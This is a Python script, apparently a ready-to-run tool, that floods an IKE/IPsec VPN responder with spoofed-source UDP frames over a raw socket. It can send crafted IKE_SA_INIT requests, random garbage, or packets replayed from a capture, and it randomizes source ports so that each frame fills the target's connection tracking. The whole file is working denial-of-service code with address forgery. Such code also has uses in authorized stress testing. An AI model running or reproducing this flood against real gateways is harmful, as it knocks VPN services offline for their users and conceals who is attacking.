"""Floods an IKE responder from forged addresses, by whole frames on one interface.

    flood.py KIND INTERFACE GATEWAY-MAC TARGET RATE SECONDS [SOURCE...] [--pcap FILE] [--singly]

KIND: init      requests to begin, each with an SPI of its own, to port 500
      garbage   random octets of random length, to ports 500 and 4500 in turn
      replay    the UDP payloads of FILE that went to TARGET, in turn, to the ports they went to

Without a SOURCE the addresses are random ones of 11.0.0.0/8; each has a port of its own. They
come a few at a time, as interfaces hand them over, or with --singly one by one, which costs the receiver a wake-up for each.
Prints how many were sent and how long that took.
"""

import argparse
import random
import socket
import struct
import time

AES_GCM_16, PRF_SHA2_384, X25519 = 20, 6, 31
ETHERNET, IPV4, UDP = 14, 20, 8
FRAMES = 4096


def payload(following, body):
    return struct.pack(">BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack(">BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request(rng):
    transforms = (
        transform(False, 1, AES_GCM_16, struct.pack(">HH", 0x800E, 256))
        + transform(False, 2, PRF_SHA2_384)
        + transform(True, 4, X25519)
    )
    proposal = struct.pack(">BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = (
        payload(34, proposal)
        + payload(40, struct.pack(">HH", X25519, 0) + rng.randbytes(32))
        + payload(0, rng.randbytes(32))
    )
    return rng.randbytes(8) + bytes(8) + struct.pack(">BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def checksum(header):
    total = sum(struct.unpack(">10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(macs, source, port, target, target_port, content):
    udp = struct.pack(">HHHH", port, target_port, UDP + len(content), 0) + content
    header = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, IPV4 + len(udp), 0, 0x4000, 60, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return bytearray(macs + b"\x08\x00" + header + udp)


def recorded(path, target):
    """The UDP payloads of a capture (classic pcap; Ethernet or Linux cooked) that went to the target, with their ports."""
    data = open(path, "rb").read()
    link = struct.unpack_from("<I", data, 20)[0]
    skip = {1: 14, 113: 16, 276: 20}[link]
    at = 24
    while at + 16 <= len(data):
        length = struct.unpack_from("<I", data, at + 8)[0]
        packet = data[at + 16 + skip : at + 16 + length]
        at += 16 + length
        if len(packet) > 28 and packet[0] == 0x45 and packet[9] == 17 and packet[16:20] == socket.inet_aton(target):
            yield struct.unpack_from(">H", packet, 22)[0], bytes(packet[28:])


def main():
    parser = argparse.ArgumentParser()
    for name in ("kind", "interface", "mac", "target"):
        parser.add_argument(name)
    parser.add_argument("rate", type=float)
    parser.add_argument("seconds", type=float)
    parser.add_argument("source", nargs="*")
    parser.add_argument("--pcap")
    parser.add_argument("--singly", action="store_true")
    a = parser.parse_args()
    rng = random.Random(1)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.interface, 0x0800))
    macs = bytes.fromhex(a.mac.replace(":", "")) + s.getsockname()[4]
    old = list(recorded(a.pcap, a.target)) if a.pcap else []
    frames = []
    for n in range(FRAMES):
        source = a.source[n % len(a.source)] if a.source else "11.%d.%d.%d" % tuple(rng.randbytes(3))
        port = rng.randrange(1024, 65536)
        if a.kind == "init":
            to, content = 500, request(rng)
        elif a.kind == "garbage":
            to, content = (500, 4500)[n & 1], rng.randbytes(rng.randrange(1, 1200))
        else:
            to, content = old[n % len(old)]
        frames.append(frame(macs, source, port, a.target, to, content))
    port = slice(ETHERNET + IPV4, ETHERNET + IPV4 + 2)
    spi = slice(ETHERNET + IPV4 + UDP, ETHERNET + IPV4 + UDP + 8)
    fresh = a.kind == "init"
    sent, refused, start = 0, 0, time.monotonic()
    while (now := time.monotonic() - start) < a.seconds:
        due = int(now * a.rate)
        if due <= sent:
            if not a.singly:
                time.sleep(0.0005)
            continue
        for _ in range(min(due - sent, 256)):
            f = frames[sent % FRAMES]
            # To the host's connection tracking each one is a connection.
            f[port] = struct.pack(">H", rng.randrange(1024, 65536))
            if fresh:
                f[spi] = rng.randbytes(8)
            try:
                s.send(f)
            except OSError:
                refused += 1
            sent += 1
    print(sent - refused, round(time.monotonic() - start, 3))


main()
